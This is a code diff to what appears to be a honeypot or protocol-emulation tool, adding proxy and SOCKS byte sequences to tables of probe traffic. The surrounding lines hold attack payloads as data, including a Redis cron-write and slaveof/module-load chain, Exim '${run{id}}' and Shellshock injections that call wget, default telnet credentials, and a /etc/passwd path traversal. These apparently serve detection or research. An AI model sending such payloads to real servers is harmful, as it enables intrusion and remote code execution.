@@ -127,6 +127,7 @@ OPENINGS: dict[str, tuple[bytes, ...]] = {
         b"*2\r\n", b"$3\r\nGET\r\n$5\r\n", b"abcde\r\n", b"config set dir /etc/cron.d\r\n", b"set x '* * * * * id'\r\n",
         b"slaveof 192.0.2.9 1\r\nmodule load x\r\n", b"*2\r\n$11\r\nsystem.exec\r\n$15\r\nwget http://a/b\r\n",
     ),
+    "proxy": (b"POST http://a/ HTTP/1.1\r\nContent-Length: 3\r\n\r\n", b"abc", b"GET http://a/ HTTP/1.1\r\n\r\n"),
     "rtsp": (
         b"OPTIONS ", b"* RTSP/1.0\r\n", b"CSeq: 1\r\n\r\n",
         b"SETUP rtsp://admin:admin@a/ RTSP/1.0\r\nTransport: RTP/AVP\r\n", b"Content-Length: 3\r\n\r\nab",
@@ -146,6 +147,7 @@ OPENINGS: dict[str, tuple[bytes, ...]] = {
         b"RCPT TO:<${run{id}}@b>\r\n",
         b"DATA\r\n", b"Subject: () { :; };wget a/b\r\n\r\n", b"x\r\n.\r\n",
     ),
+    "socks": (b"\4", b"\1\0\x50\0\0\0\1a", b"\0a"),
     "ssh": tuple(ssh_client.opening(Table(load("ssh")(visit(host=HOST))).open())),
     "telnet": (b"\xff\xfd\x01", b"root\r\n", b"xc3511\r\n", b"sh\n", b"echo -e '\\x41", b"'\n", b"wget http://a/b\n"),
     "tr069": (
@@ -212,7 +214,8 @@ WORDS = [
     b"\x01\x01\0\x1c\0\0\1\0" + "select 1 1".encode("utf-16-le"), b"\0\0\0\x08\x04\xd2\x16\x2f",
     b'PUT /a/b/c HTTP/1.1\r\nContent-Length: 9\r\n\r\n{"a":"b"}',
     b"GET /_plugin/head/../../etc/passwd HTTP/1.1\r\n\r\n",
-    b"Q\0\0\0\x0dselect 1\0", b"\x07\0\0\0\x03SELECT", b"\x09\0\0\0\x03select 1",
+    b"CONNECT a:25 HTTP/1.1\r\nProxy-Authorization: Basic YTpi\r\n\r\n", b"\5\2\0\2", b"\1\1a\1b",
+    b"\5\1\0\3\1a\0\x50", b"Q\0\0\0\x0dselect 1\0", b"\x07\0\0\0\x03SELECT", b"\x09\0\0\0\x03select 1",
 ]  # fmt: skip
 
 FRONT = "front"  # no room of its own: telnet and HTTP on one port
